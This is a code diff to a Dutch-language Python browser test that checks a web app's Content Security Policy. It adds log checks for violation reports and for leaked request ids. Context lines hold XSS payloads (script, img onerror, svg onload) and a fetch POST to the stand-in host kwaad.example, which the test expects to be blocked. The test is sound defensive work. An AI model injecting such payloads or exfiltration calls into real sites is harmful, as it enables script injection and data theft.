@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 import os
 from pathlib import Path
 from uuid import uuid4
@@ -12,7 +13,7 @@ from infra import clock, people
 from infra.settings import settings
 from services.netwerk.contract import SessieOpenen
 from tests.flows.intake_dossier import school
-from tests.stack import Stack
+from tests.stack import Stack, eventually
 
 SMOKKEL = (
     "<script>window.kwaad=1</script><img src=x onerror='window.kwaad=2'><svg onload='window.kwaad=3'></svg>"
@@ -81,6 +82,18 @@ async def test_sec_2_wat_iemand_binnensmokkelt_draait_niet(browser: Browser, sta
             "fetch('https://kwaad.example/', {method: 'POST', body: 'x'}).then(() => 'ja', () => 'nee')"
         )
         assert verzonden == "nee"
+
+        async def gemeld_bij_ons() -> bool:
+            regels = map(json.loads, filter(None, (settings().var / "log/web.log").read_text().splitlines()))
+            ons = [r for r in regels if r.get("event") == "beleid geschonden" and r["route"] == "/aanvragen/…"]
+            gevonden = {(r["soort"], r["reden"]) for r in ons}
+            verwacht = {("script-src-elem", "inline"), ("script-src-attr", "inline"), ("connect-src", "kwaad.example")}
+            return gevonden >= verwacht
+
+        await eventually(gemeld_bij_ons, wat="de meldingen van de browser in het logboek staan")
+        assert str(aanvraag.id) not in "".join(
+            regel for regel in (settings().var / "log/web.log").read_text().splitlines() if "geschonden" in regel
+        )
     finally:
         await context.close()
 
